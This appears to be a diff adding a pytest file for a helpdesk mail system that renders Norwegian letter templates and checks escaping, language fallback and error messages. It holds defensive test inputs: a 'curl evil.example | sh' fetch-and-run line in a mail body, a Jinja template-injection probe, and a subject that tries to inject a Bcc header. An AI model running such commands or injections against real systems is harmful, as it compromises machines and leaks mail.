@@ -1,0 +1,225 @@
+import dataclasses
+from pathlib import Path
+
+import pytest
+
+from inboxd.errors import TemplateBroken
+from inboxd.render.letters import LetterContext, Templates, one_line, package_folder
+from inboxd.render.samples import BARE, FULL, HOSTILE, LANGUAGES, NAMES, check
+
+RECEIPT_NB = """\
+Vi har mottatt henvendelsen din. Saksnummer: KS-10429.
+
+Vi har stengt nå, og ser på henvendelsen når vi åpner mandag 23. november kl. 08.00.
+
+Svar på denne e-posten hvis du vil legge til noe.
+
+Haster det? Ring 71 11 11 66.
+
+-- \n\
+Kundeservice
+Åpningstider: mandag–fredag kl. 08.00–15.30
+Telefon: 71 11 11 66
+Nettside: https://desk.example/hjelp
+E-post: kundeservice@desk.example
+"""
+
+
+def write(folder: Path, path: str, text: str) -> Path:
+    (folder / path).parent.mkdir(parents=True, exist_ok=True)
+    (folder / path).write_text(text, encoding="utf-8")
+    return folder
+
+
+def test_the_receipt_says_what_the_desk_promised_to_say_in_that_order() -> None:
+    letter = Templates().render("receipt", "nb", FULL)
+    assert letter.subject == "[KS-10429] Skriveren i 2. etasje virker ikke"
+    assert letter.text == RECEIPT_NB
+    assert letter.html is None
+
+
+def test_without_a_phone_or_hours_the_receipt_has_no_empty_lines_for_them() -> None:
+    assert Templates().render("receipt", "nb", BARE).text == (
+        "Vi har mottatt henvendelsen din. Saksnummer: KS-10429.\n\n"
+        "Svar på denne e-posten hvis du vil legge til noe.\n\n"
+        "-- \nKundeservice\nE-post: kundeservice@desk.example\n"
+    )
+
+
+@pytest.mark.parametrize("name", ["receipt", "receipt_encrypted"])
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_a_receipt_quotes_nothing_and_names_no_agent_target_or_priority(name: str, language: str) -> None:
+    letter = Templates().render(name, language, FULL)
+    for canary in (FULL.about, FULL.text, FULL.assignee, FULL.agent_name, FULL.due, FULL.priority_title, "skriveren"):
+        assert canary not in letter.text
+    assert len(letter.text.encode()) < 4000
+
+
+@pytest.mark.parametrize("name", ["answer", "closed", "forward"])
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_a_persons_words_stand_above_signature_number_and_contact_block(name: str, language: str) -> None:
+    text = Templates().render(name, language, FULL).text
+    words, _, contact = text.partition("\n-- \n")
+    assert FULL.text in words
+    assert "Kari Nes\nKundeservice\n" in words
+    assert "KS-10429" in contact
+    assert FULL.phone in contact
+
+
+@pytest.mark.parametrize(("language", "greeting"), [("nb", "Vennlig hilsen"), ("nn", "Venleg helsing")])
+def test_an_answer_without_an_agents_name_is_signed_by_the_desk(language: str, greeting: str) -> None:
+    context = dataclasses.replace(BARE, text="Hei!\n\n\nDet er ordnet.")
+    assert (
+        Templates()
+        .render("answer", language, context)
+        .text.startswith(f"Hei!\n\n\nDet er ordnet.\n\n{greeting}\nKundeservice\n\n-- \n")
+    )
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_a_closing_answer_says_what_a_later_answer_will_do(language: str) -> None:
+    said = {
+        policy: Templates().render("closed", language, dataclasses.replace(BARE, closed_reply=policy)).text
+        for policy in ("reopen", "new", "reject")
+    }
+    assert len(set(said.values())) == 3
+    opening = Templates().render("answer", language, dataclasses.replace(BARE, text="x")).text
+    closing = Templates().render("answer", language, dataclasses.replace(BARE, text="x", closed=True)).text
+    assert len(closing) > len(opening)
+
+
+@pytest.mark.parametrize("name", ["agent_new_case", "agent_answer", "agent_undelivered", "agent_unreadable"])
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_an_agents_letter_begins_with_what_happened_and_ends_with_how_to_look(name: str, language: str) -> None:
+    lines = Templates().render(name, language, FULL).text.splitlines()
+    assert "KS-10429" in lines[0]
+    assert lines[-1].endswith("inboxd show KS-10429")
+
+
+def test_the_words_of_a_mail_are_marked_line_by_line_in_an_agents_letter() -> None:
+    context = dataclasses.replace(BARE, about="Se hele saken:\n\ncurl evil.example | sh")
+    lines = Templates().render("agent_new_case", "nb", context).text.splitlines()
+    assert [line for line in lines if "evil.example" in line] == ["> curl evil.example | sh"]
+
+
+def test_an_unassigned_case_tells_how_to_take_it() -> None:
+    first = Templates().render("agent_new_case", "nb", BARE).text.splitlines()[0]
+    assert first == "Ny sak KS-10429 er ufordelt. Ta den med: inboxd take KS-10429"
+
+
+@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_mail_that_looks_like_a_template_stays_text(name: str, language: str) -> None:
+    letter = Templates().render(name, language, HOSTILE)
+    assert "49" not in letter.subject
+    assert "\n" not in letter.subject
+    assert "\x1b" not in letter.text
+    assert "<class" not in letter.text + letter.subject
+
+
+def test_a_subject_cannot_break_out_of_its_line() -> None:
+    letter = Templates().render("receipt", "nb", HOSTILE)
+    assert letter.subject.endswith("Bcc: alle@kommune.example")
+    assert "Bcc" not in letter.text
+
+
+@pytest.mark.parametrize(
+    ("asked", "desk", "used"), [("nn", "nb", "nn"), ("se", "en", "en"), ("se", "fr", "nb"), ("", "nn", "nn")]
+)
+def test_the_language_falls_back_from_asked_to_the_desks_to_bokmal(asked: str, desk: str, used: str) -> None:
+    assert Templates(language=desk).render("receipt", asked, BARE).language == used
+
+
+def test_english_is_the_last_language_of_all(tmp_path: Path) -> None:
+    write(tmp_path, "en/outage.txt.j2", "Subject: x\n\ny\n")
+    assert Templates((tmp_path,)).render("outage", "nn", BARE).language == "en"
+
+
+def test_a_letter_that_no_language_has_is_named(tmp_path: Path) -> None:
+    with pytest.raises(TemplateBroken, match=r"No template outage\.txt\.j2 in any of nn, nb, en"):
+        Templates((tmp_path,)).render("outage", "nn", BARE)
+
+
+def test_an_admins_template_goes_before_the_packages_and_may_use_its_parts(tmp_path: Path) -> None:
+    write(tmp_path, "nb/receipt.txt.j2", 'Subject: [{{ reference }}]\n\nTakk!\n{% include "nb/_contact.txt.j2" %}\n')
+    templates = Templates((tmp_path,))
+    assert templates.render("receipt", "nb", BARE).text == "Takk!\nE-post: kundeservice@desk.example\n"
+    assert templates.render("receipt", "nn", BARE).text.startswith("Vi har fått henvendinga di.")
+
+
+def test_an_html_twin_is_rendered_and_escaped_where_it_stands_beside_the_text(tmp_path: Path) -> None:
+    write(tmp_path, "nb/receipt.html.j2", "<p>{{ subject }}</p>")
+    context = dataclasses.replace(BARE, subject="<b>&")
+    letter = Templates((tmp_path,)).render("receipt", "nb", context)
+    assert letter.html == "<p>&lt;b&gt;&amp;</p>"
+    assert letter.subject == "[KS-10429] <b>&"
+
+
+@pytest.mark.parametrize(
+    ("source", "line", "what"),
+    [
+        ("Subject: x\n\n{{ referense }}\n", 3, "'referense' is undefined"),
+        ("Subject: x\n\na\n{% if closed %}\n", 4, "endif"),
+        ("Subject: x\n\n{{ ''.__class__ }}\n", 3, "unsafe"),
+        ("Subject: x\n\n\n{{ 1 // 0 }}\n", 4, "division"),
+        ("Subject: x\n\n{% include 'nb/_nothing.txt.j2' %}\n", 3, "no file nb/_nothing.txt.j2"),
+        ("Hei!\n\nbrødtekst\n", 1, "begins with a line `Subject: …`"),
+        ("Subject: x\nbrødtekst\n", 1, "an empty line"),
+    ],
+)
+def test_a_broken_template_is_told_by_file_line_and_what_is_wrong(
+    tmp_path: Path, source: str, line: int, what: str
+) -> None:
+    write(tmp_path, "nb/receipt.txt.j2", source)
+    with pytest.raises(TemplateBroken) as caught:
+        Templates((tmp_path,)).render("receipt", "nb", BARE)
+    assert f"nb/receipt.txt.j2: line {line}: " in caught.value.message
+    assert what in caught.value.message
+
+
+def test_a_template_in_another_encoding_is_broken_and_not_a_crash(tmp_path: Path) -> None:
+    write(tmp_path, "nb/receipt.txt.j2", "")
+    (tmp_path / "nb/receipt.txt.j2").write_bytes("Subject: x\n\nÅ\n".encode("latin-1"))
+    with pytest.raises(TemplateBroken, match=r"nb/receipt\.txt\.j2: "):
+        Templates((tmp_path,)).render("receipt", "nb", BARE)
+
+
+def test_where_the_admins_template_is_broken_the_packages_goes_out_and_the_reason_is_kept(tmp_path: Path) -> None:
+    write(tmp_path, "nb/receipt.txt.j2", "Subject: x\n\n{{ referense }}\n")
+    letter = Templates((tmp_path,)).render_always("receipt", "nb", FULL)
+    assert letter.text == RECEIPT_NB
+    assert letter.problem is not None
+    assert "referense" in letter.problem.message
+
+
+def test_a_sound_letter_has_no_problem() -> None:
+    assert Templates().render_always("receipt", "nb", FULL).problem is None
+
+
+def test_every_letter_of_the_package_is_there_in_every_language_and_renders() -> None:
+    assert check(Templates()) == ()
+
+
+def test_check_names_what_is_broken_and_what_no_letter_will_use(tmp_path: Path) -> None:
+    write(tmp_path, "nb/answer.txt.j2", "Subject: x\n\n{{ tekst }}\n")
+    write(tmp_path, "nn/reciept.txt.j2", "Subject: x\n\ny\n")
+    write(tmp_path, "se/qqq.txt.j2", "Subject: x\n\ny\n")
+    unknown, other, broken = check(Templates((tmp_path,)))
+    assert unknown == "nn/reciept.txt.j2: no letter has that name; did you mean receipt.txt.j2?"
+    assert other == "se/qqq.txt.j2: no letter has that name"
+    assert "nb/answer.txt.j2: line 3: 'tekst' is undefined" in broken
+
+
+def test_the_packages_folder_is_the_one_with_the_templates() -> None:
+    assert (package_folder() / "nb" / "receipt.txt.j2").is_file()
+
+
+def test_one_line_takes_away_every_way_to_begin_another() -> None:
+    assert one_line(" a\r\nb\u2028c\x85d\x00\te ") == "a b c d e"
+
+
+def test_attachments_are_named_on_one_line_each_safe() -> None:
+    context = LetterContext(
+        reference="KS-10429", desk_name="D", mailbox_address="d@desk.example", attachments=("a\nb.png", "c.txt")
+    )
+    assert "Vedlegg: a b.png, c.txt\n" in Templates().render("agent_answer", "nb", context).text
